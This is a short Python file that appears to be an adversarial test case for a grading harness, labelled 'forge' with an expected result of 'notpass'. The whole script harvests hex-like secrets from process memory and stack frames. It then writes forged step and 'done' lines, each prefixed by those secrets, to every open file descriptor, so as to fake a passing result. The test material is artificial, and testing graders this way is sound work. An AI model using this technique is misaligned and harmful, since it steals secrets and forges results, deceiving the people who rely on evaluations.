# {"category": "forge", "name": "lines led by every secret in memory", "expect": "notpass", "problem": "add"}
import gc, os, sys
def outer_frames():
    frame = sys._getframe()
    while frame is not None:
        yield frame
        frame = frame.f_back
def open_handles():
    for handle in range(3, 256):
        try: os.fstat(handle)
        except OSError: continue
        yield handle
def shout(data):
    for handle in open_handles():
        try:
            os.set_blocking(handle, False)
            os.write(handle, data)
        except OSError: pass
import json
def secrets():
    found = set()
    pool = list(gc.get_objects())
    for frame in outer_frames():
        pool += list(frame.f_locals.values()) + list(frame.f_code.co_consts)
    for item in pool:
        parts = [item, *(vars(item).values() if hasattr(type(item), "__dict__") and hasattr(item, "__dict__") else ())]
        for part in parts:
            if type(part) is bytes: part = part.decode("latin-1")
            if type(part) is str and 8 <= len(part) <= 128 and set(part) <= set("0123456789abcdefABCDEF-"):
                found.add(part)
    return found
for secret in secrets():
    for line in (["loaded"], ["step", 0, "value", 2], ["step", 1, "value", 42], ["step", 2, "value", 0], ["done"]):
        shout(f"{secret} {json.dumps(line)}\n".encode())
os._exit(0)
